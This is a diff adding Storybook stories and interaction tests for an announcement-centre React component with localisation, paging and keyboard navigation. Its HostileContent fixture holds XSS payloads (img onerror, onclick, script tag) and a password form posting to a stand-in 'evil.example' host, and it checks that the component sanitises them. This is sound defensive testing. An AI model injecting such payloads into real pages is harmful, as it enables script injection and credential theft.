@@ -1,0 +1,126 @@
+import type { Meta, StoryObj } from "@storybook/react-vite";
+import { expect, fn, waitFor, within } from "storybook/test";
+import { Button } from "../button/button.tsx";
+import { AnnouncementCentre } from "./announcement-centre.tsx";
+import { announcements, arabic, english, hindi } from "./fixture.ts";
+
+const meta = {
+  title: "Patterns/AnnouncementCentre",
+  component: AnnouncementCentre,
+  args: { items: announcements("en", 63), labels: english, onValueChange: fn(), onPageChange: fn() },
+  parameters: { layout: "padded" },
+} satisfies Meta<typeof AnnouncementCentre>;
+export default meta;
+type Story = StoryObj<typeof meta>;
+
+const narrow = [(Story: () => React.ReactElement) => <div style={{ maxInlineSize: 328 }}>{Story()}</div>];
+
+export const SideBySide: Story = {
+  args: {
+    renderActions: () => (
+      <>
+        <Button variant="primary">Write to support</Button>
+        <Button>Deposit another way</Button>
+      </>
+    ),
+  },
+  play: async ({ canvas, userEvent, args }) => {
+    await expect(canvas.getAllByRole("listitem")).toHaveLength(7 + 5);
+    await expect(canvas.getByRole("region", { name: "UPI deposits delayed until 22:00" })).toBeVisible();
+    await userEvent.click(canvas.getByRole("button", { name: /Beware of fake agents/ }));
+    await expect(args.onValueChange).toHaveBeenCalledWith("a7", expect.objectContaining({ reason: "item" }));
+    await expect(canvas.getByRole("region", { name: "Beware of fake agents" })).toHaveTextContent(
+      "We never ask for your password",
+    );
+    await expect(canvas.getAllByRole("status")[0]).toHaveTextContent("");
+    await userEvent.click(canvas.getByRole("button", { name: "Page 2" }));
+    await expect(args.onPageChange).toHaveBeenCalledWith(2);
+    await expect(canvas.getByText("8–14 of 63")).toBeVisible();
+  },
+};
+export const Hindi: Story = { args: { items: announcements("hi", 63), labels: hindi }, globals: { language: "hi" } };
+export const Arabic: Story = { args: { items: announcements("ar", 63), labels: arabic }, globals: { language: "ar" } };
+
+export const NarrowList: Story = { decorators: narrow };
+export const NarrowDetail: Story = {
+  decorators: narrow,
+  args: { defaultValue: "a1", items: announcements("hi", 63), labels: hindi },
+  globals: { language: "hi" },
+  play: async ({ canvas, userEvent }) => {
+    await userEvent.click(canvas.getByRole("button", { name: "सभी घोषणाएँ" }));
+    await expect(canvas.getByRole("list", { name: "इस पृष्ठ की घोषणाएँ" })).toBeVisible();
+    await expect(canvas.queryByRole("region", { name: /UPI/ })).toBeNull();
+    await userEvent.click(canvas.getByRole("button", { name: /UPI/ }));
+  },
+};
+export const Loading: Story = { args: { status: "loading", items: [] } };
+export const Empty: Story = { args: { items: [] } };
+export const Failed: Story = {
+  args: { status: "error", items: [], onRetry: fn() },
+  play: async ({ canvas, userEvent, args }) => {
+    await userEvent.click(canvas.getByRole("button", { name: "Try again" }));
+    await expect(args.onRetry).toHaveBeenCalledOnce();
+  },
+};
+export const OnePage: Story = { args: { items: announcements("en", 4) } };
+/** The server pages: these are the seven of page 3. */
+export const PagedByServer: Story = { args: { items: announcements("en", 7), total: 63, page: 3, unreadCount: 12 } };
+/** Addresses for items and pages; an ordinary press stays in the application. */
+export const Links: Story = {
+  args: { value: "a2", href: (id) => (id ? `?item=${id}` : "?"), pageHref: (page) => `?page=${page}` },
+  play: async ({ canvas, userEvent, args }) => {
+    const item = canvas.getByRole("link", { name: /Weekly rebate/ });
+    await expect(item).toHaveAttribute("href", "?item=a3");
+    await userEvent.click(item);
+    await expect(args.onValueChange).toHaveBeenCalledWith("a3", expect.objectContaining({ reason: "item" }));
+    await expect(canvas.getByRole("region", { name: "12 new slots from Saffron Reel" })).toBeVisible();
+  },
+};
+const hostile = announcements("en", 3).map((item, index) =>
+  index === 0
+    ? {
+        ...item,
+        title: `<b>Bonus</b> <img src=x onerror=alert(1)> ‮evil`,
+        content: `<p onclick="window.hit=1">Free money</p><script>window.hit = 1</script><form action="https://evil.example"><input placeholder="password"></form><p style="position:fixed;inset:0">${"averyveryverylongword".repeat(20)}</p>`,
+      }
+    : item,
+);
+export const HostileContent: Story = {
+  args: { items: hostile },
+  play: async ({ canvas }) => {
+    const detail = canvas.getByRole("region", { name: /Bonus/ });
+    await expect(within(detail).queryByRole("textbox")).toBeNull();
+    await expect(detail.querySelector("script, style, form, [style], [onclick], img")).toBeNull();
+    await expect(detail.scrollWidth).toBeLessThanOrEqual(detail.clientWidth);
+    await expect(window).not.toHaveProperty("hit");
+  },
+};
+
+export const Keyboard: Story = {
+  tags: ["keyboard"],
+  decorators: narrow,
+  play: async ({ canvas, userEvent, step }) => {
+    const items = within(canvas.getByRole("list", { name: "Announcements of this page" })).getAllByRole("button");
+    await step("Arrows, Home and End move through the list", async () => {
+      items[0]?.focus();
+      await userEvent.keyboard("{ArrowUp}");
+      await expect(items[0]).toHaveFocus();
+      await userEvent.keyboard("{ArrowDown}{ArrowDown}");
+      await expect(items[2]).toHaveFocus();
+      await userEvent.keyboard("{End}");
+      await expect(items[6]).toHaveFocus();
+      await userEvent.keyboard("{Home}{ArrowDown}");
+      await expect(items[1]).toHaveFocus();
+    });
+    await step("Enter opens, focus goes into the text", async () => {
+      await userEvent.keyboard("{Enter}");
+      await waitFor(() => expect(canvas.getByRole("region", { name: "12 new slots from Saffron Reel" })).toHaveFocus());
+    });
+    await step("Back leads to the item that was open", async () => {
+      await userEvent.tab();
+      await expect(canvas.getByRole("button", { name: "All announcements" })).toHaveFocus();
+      await userEvent.keyboard("{Enter}");
+      await waitFor(() => expect(canvas.getByRole("button", { name: /12 new slots/ })).toHaveFocus());
+    });
+  },
+};
